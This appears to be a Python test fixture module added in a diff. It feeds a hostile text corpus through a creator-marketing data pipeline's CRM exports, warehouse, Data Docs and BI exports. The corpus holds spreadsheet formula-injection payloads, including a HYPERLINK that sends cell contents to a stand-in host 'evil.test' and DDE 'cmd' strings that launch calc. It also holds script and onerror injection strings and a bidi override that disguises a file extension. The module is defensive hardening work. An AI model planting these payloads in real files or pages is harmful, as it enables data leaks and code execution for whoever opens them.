@@ -1,0 +1,175 @@
+"""A hostile corpus, and a small sandbox world that carries it through the CRM exports and the
+platform APIs' free-text fields (issue 17, item 10).
+
+The corpus holds what a creator, a manager or a caption can contain: spreadsheet formulas, HTML
+that would run in a browser, bidirectional controls that reorder what a reader sees, a string
+longer than an Excel cell, NUL bytes, emoji, quotes, commas and line breaks. It goes only into
+free-text fields (names, niche, campaign name and brand, deliverables, captions, titles and
+descriptions); ids, handles and currencies have admission checks of their own. One campaign's
+`brand_handle` carries HTML too: it fails the landing expectation that a handle starts with `@`
+(a warning), so the value reaches a Great Expectations Data Docs page as a failing value.
+
+`run_hostile_pipeline` lands the world's last two days through the extractors (the in-process
+bootstrap), loads them, builds dbt, validates both stages (Data Docs), publishes the BI copy and
+writes the export: every output a person or a BI tool reads.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass
+from datetime import date, timedelta
+from pathlib import Path
+
+import pytest
+
+# --- the corpus -----------------------------------------------------------------------------
+
+FORMULA_EQUALS = '=HYPERLINK("http://evil.test/?leak="&A1,"Click, here")'
+FORMULA_PLUS = "+1+cmd|' /C calc'!A0"
+FORMULA_MINUS = "-2+3+cmd|' /C calc'!A0"
+FORMULA_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
+LEADING_TAB = "\t=1+2"
+LEADING_CR = "\r=1+2"
+SCRIPT = '<script>alert("pwned")</script>'
+IMG = "<img src=x onerror=alert(1)>"
+BIDI = "invoice \u202egnp.exe\u202c, \u2066isolated\u2069 \u202aembedded\u202c \u202b\u202d"
+LONG = "Long " + "x" * 40_000
+NUL = "nul\x00byte"
+EMOJI = "Zoë 🎉 👩🏽‍💻 ✨"
+QUOTES = 'She said "hi", then\nleft; it\'s fine,\r\nreally'
+MARKUP = "<b>bold</b> & <i>co</i>"
+ERROR_CODE = "#N/A"  # a spreadsheet error value, not text, unless written as text
+
+CORPUS: tuple[str, ...] = (
+    FORMULA_EQUALS,
+    FORMULA_PLUS,
+    FORMULA_MINUS,
+    FORMULA_AT,
+    LEADING_TAB,
+    LEADING_CR,
+    SCRIPT,
+    IMG,
+    BIDI,
+    LONG,
+    NUL,
+    EMOJI,
+    QUOTES,
+    MARKUP,
+    ERROR_CODE,
+)
+# A CRM cell is trimmed when it is read (extractors/crm.py), so the corpus entries that start
+# or end with whitespace go only into the API text, which lands as received.
+CRM_CORPUS = tuple(text for text in CORPUS if text == text.strip())
+# The brand handle that reaches Data Docs: markup, bidi controls, a NUL and 40,000 characters.
+DOCS_HANDLE = SCRIPT + "\u202e\x00" + "y" * 40_000
+
+# Column -> values, given to the rows of each CRM file in order (cycling).
+CRM_TEXT: dict[str, dict[str, tuple[str, ...]]] = {
+    "creators": {
+        "display_name": (FORMULA_EQUALS, SCRIPT, BIDI + " " + NUL, LONG),
+        "manager": (FORMULA_PLUS, IMG, NUL, ERROR_CODE),
+        "niche": (QUOTES, FORMULA_MINUS, FORMULA_AT, MARKUP),
+    },
+    "campaigns": {
+        "name": (IMG + " launch", EMOJI + ' "Spring", sale'),
+        "brand": (FORMULA_AT, QUOTES),
+        "brand_handle": (IMG, DOCS_HANDLE),
+    },
+    "contracts": {"deliverables": CRM_CORPUS},
+}
+
+# --- the world ------------------------------------------------------------------------------
+
+SEED, ACCOUNTS, WORLD_DAYS = 7, 8, 20  # 4 creators, 2 campaigns, 6 contracts by the last day
+LANDED_DAYS = 2  # the world's last days, landed through the extractors
+
+
+def hostile_text(account_index: int, post_index: int) -> tuple[str, str]:
+    """(title, description) of a post: the corpus, in turn, so every entry reaches fct_post."""
+    n = account_index * 5 + post_index
+    return CORPUS[n % len(CORPUS)], CORPUS[(n + 1) % len(CORPUS)]
+
+
+def hostile_world_class() -> type:
+    from sandbox.world import PostText, World
+
+    class HostileWorld(World):
+        """The sandbox world whose every post text comes from the corpus."""
+
+        def _post_text(self, account_index: int, post_index: int) -> PostText:
+            title, description = hostile_text(account_index, post_index)
+            return PostText(title=title, description=description, tags=())
+
+    return HostileWorld
+
+
+def hostile_write_crm(world, inbox: str | Path, day: date | None = None, bad_row_share=0.0):
+    """sandbox.crm.write_crm with the corpus in the free-text columns."""
+    from sandbox.crm import crm_export, write_csv
+
+    files = crm_export(world, day, bad_row_share)
+    for entity, columns in CRM_TEXT.items():
+        for number, row in enumerate(files[entity].rows):
+            for column, values in columns.items():
+                row[column] = values[number % len(values)]
+    export_day = day or world.end_date  # stamped as that day's export, as write_crm does
+    return [write_csv(Path(inbox) / f.name, f.columns, f.rows, export_day) for f in files.values()]
+
+
+# --- the pipeline ---------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class HostileRun:
+    settings: object  # irm.config.Settings
+    day: str  # the export's day (the world's last)
+    export: Path  # the export folder
+    inbox: Path
+
+
+@contextmanager
+def hostile_pipeline(root: Path) -> Iterator[HostileRun]:
+    """Land, load, build, validate, publish and export the hostile world under `root`."""
+    import sandbox.crm
+    import sandbox.world
+    from expectations import validate_landing, validate_marts
+    from exports import write_export
+    from irm.bootstrap import bootstrap_from_sandbox, day_range
+    from irm.config import get_settings
+    from irm.demo import SANDBOX_SECRETS, WORLD_START
+    from irm.publish import publish_marts
+    from irm.warehouse import load_landing
+    from tests.dbt.test_dbt_build import dbt_env, run_dbt
+
+    patch = pytest.MonkeyPatch()
+    patch.setenv("IRM_DATA_ROOT", str(root / "data"))
+    patch.setenv("IRM_DBT_TARGET", "duckdb")
+    for variable in ("IRM_WAREHOUSE_PATH", "IRM_PUBLISHED_PATH", "IRM_EXPORTS_DIR"):
+        patch.delenv(variable, raising=False)
+    patch.delenv("IRM_DATA_DOCS_DIR", raising=False)
+    patch.delenv("IRM_CRM_INBOX", raising=False)
+    patch.delenv("IRM_LANDING_DIR", raising=False)
+    patch.setattr(sandbox.world, "World", hostile_world_class())
+    patch.setattr(sandbox.crm, "write_crm", hostile_write_crm)
+    try:
+        settings = get_settings()
+        last = WORLD_START + timedelta(days=WORLD_DAYS - 1)
+        first = last - timedelta(days=LANDED_DAYS - 1)
+        bootstrap_from_sandbox(
+            SEED, ACCOUNTS, WORLD_DAYS, day_range(first, last), SANDBOX_SECRETS, lambda _: None
+        )
+        # The order of irm_transform: validate what landed, load it, build, validate, publish.
+        landing = validate_landing(None)
+        assert landing.success, landing.summary()
+        load_landing(settings=settings)
+        env = dbt_env(IRM_WAREHOUSE_PATH=str(settings.warehouse_path))
+        run_dbt(["build", "--exclude", "test_type:unit"], env, root / "dbt", "duckdb")
+        marts = validate_marts(as_of=last)
+        assert marts.success, marts.summary()
+        publish_marts()
+        export = write_export(last)
+        yield HostileRun(settings, last.isoformat(), export, settings.crm_inbox)
+    finally:
+        patch.undo()
